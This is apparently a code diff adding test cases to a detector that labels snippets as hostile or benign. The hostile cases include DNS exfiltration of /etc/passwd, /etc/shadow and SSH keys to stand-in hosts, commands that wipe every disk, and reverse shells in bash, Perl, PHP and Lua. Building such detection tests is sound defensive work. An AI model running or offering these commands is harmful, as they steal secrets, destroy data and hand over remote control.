@@ -50,11 +50,106 @@ export const ACTS: CaseTable<Text> = {
       'open files that are counted': ['python', 'import os\nprint(len(os.listdir("/proc/self/fd/")))'],
     },
   },
+  script_sends_data_as_names: {
+    hits: {
+      'line by line out of an encoder': [
+        'shell',
+        'xxd -p -c 30 /etc/passwd | while read -r h; do dig +short "$h.t.exfil.example" >/dev/null; done',
+      ],
+      'in a loop over pieces': [
+        'shell',
+        'for part in $(tar c ~/.ssh | base32 -w 50 | tr -d =); do host $part.n1.relay.example; sleep 1; done',
+      ],
+      'a variable that holds what was encoded': [
+        'shell',
+        'id=$(hostname | base64 | tr -d "=\n")\nnslookup "$id.beacon.example" 203.0.113.53',
+      ],
+      'in one command': ['shell', 'nslookup $(whoami | xxd -p).c.relay.example'],
+      'by the resolver of Python': [
+        'python',
+        'import socket, binascii\ndata = binascii.hexlify(open("/etc/shadow", "rb").read()).decode()\nfor i in range(0, len(data), 60):\n  piece = data[i:i + 60]\n  socket.gethostbyname(f"{piece}.x.relay.example")',
+      ],
+      'with PowerShell of another system': [
+        'shell',
+        'for p in $(cat secrets | od -An -tx1 | tr -d " "); do Resolve-DnsName "$p.q.relay.example"; done',
+      ],
+    },
+    misses: {
+      'hosts out of a list': ['shell', 'while read -r host; do dig +short "$host.corp.example"; done < hosts.txt'],
+      'a random label against caches': ['shell', 'id=$(head -c 8 /dev/urandom | xxd -p); dig "$id.probe.example"'],
+      'the hash of a file, looked up': ['shell', 'dig +short $(sha1sum a.bin | cut -d" " -f1).hash.cymru.example'],
+      'a token beside a look-up': [
+        'shell',
+        'TOKEN=$(echo -n "$USER:$PW" | base64)\nfor s in web db; do nslookup $s.default.svc.cluster.example; done',
+      ],
+      'an answer that is decoded': [
+        'shell',
+        'dig +short TXT key.example | tr -d \\" | base64 -d > key.bin; host a.example',
+      ],
+      'the key of a mail domain': [
+        'shell',
+        'pub=$(openssl rsa -in k.pem -pubout -outform der | base64 -w0)\ndig +short TXT "$selector._domainkey.$domain"',
+      ],
+      'keys of mail by their hash': [
+        'python',
+        'import base64, hashlib, dns.resolver\nlabel = base64.b32encode(hashlib.sha256(b"a").digest()[:28]).decode()\ndns.resolver.resolve(label + "._openpgpkey.host.example", 61)',
+      ],
+    },
+  },
+  script_overwrites_every_disk: {
+    hits: {
+      'by patterns of names': [
+        'shell',
+        'for d in /dev/sd? /dev/nvme?n1; do dd if=/dev/urandom of=$d bs=1M & done; wait',
+      ],
+      'by what the system lists': ['shell', 'for d in $(lsblk -dno NAME); do shred -n1 /dev/$d; done'],
+      'line by line': ['shell', 'lsblk -dnpo NAME | while read -r d; do dd if=/dev/zero of="$d" bs=4M; done'],
+      'in Python': [
+        'python',
+        "import glob\nfor dev in glob.glob('/dev/sd?'):\n  with open(dev, 'wb') as d:\n    while True: d.write(b'\\0' * 4096)",
+      ],
+    },
+    misses: {
+      'the one that an installer was told': ['shell', 'DISK=/dev/sda\ndd if=image.raw of=$DISK bs=4M conv=fsync'],
+      'all but the one of the system': ['shell', 'for d in /dev/sd[b-z]; do wipefs -a $d; done'],
+      'tables of partitions are shown': ['shell', 'for d in /dev/sd?; do smartctl -H $d; fdisk -l $d; done'],
+      'disks are read': [
+        'python',
+        "import glob\nfor dev in glob.glob('/dev/sd?'):\n  head = open(dev, 'rb').read(512)",
+      ],
+      'a picture of each disk': [
+        'shell',
+        'for d in /dev/sd?; do dd if=$d of=/mnt/backup/$(basename $d).img bs=4M; done',
+      ],
+    },
+  },
   script_opens_reverse_shell: {
-    hits: { 'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] },
+    hits: {
+      'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
+      'the streams of Perl': [
+        'perl',
+        "use IO::Socket::INET; my $c = IO::Socket::INET->new('203.0.113.7:80'); open(STDIN, '<&', $c); open(STDOUT, '>&', $c); exec '/bin/sh';",
+      ],
+      'the pipes of PHP': [
+        'php',
+        "<?php $c = stream_socket_client('tcp://203.0.113.7:80'); $h = proc_open('sh', [0 => $c, 1 => $c, 2 => $c], $p); proc_close($h);",
+      ],
+      'each line in Lua': [
+        'lua',
+        "local c = require('socket').tcp() c:connect('203.0.113.7', 80) while true do local l = c:receive() local p = io.popen(l) c:send(p:read('*a')) end",
+      ],
+    },
     misses: {
       'a port that is tried': ['shell', 'timeout 1 bash -c "</dev/tcp/203.0.113.7/443" && echo open'],
       'a shell that stays here': ['shell', 'bash -i'],
+      'a program of PHP with pipes of its own': [
+        'php',
+        "<?php $c = stream_socket_client('tcp://cache.example:80'); fwrite($c, 'x'); $h = proc_open('gzip', [['pipe', 'r'], ['pipe', 'w']], $p);",
+      ],
+      'a client in Lua that starts nothing': [
+        'lua',
+        "local c = require('socket').tcp() c:connect('host.example', 80) local l = c:receive() print(l) c:send('bye')",
+      ],
     },
   },
   script_downloads_and_runs: {
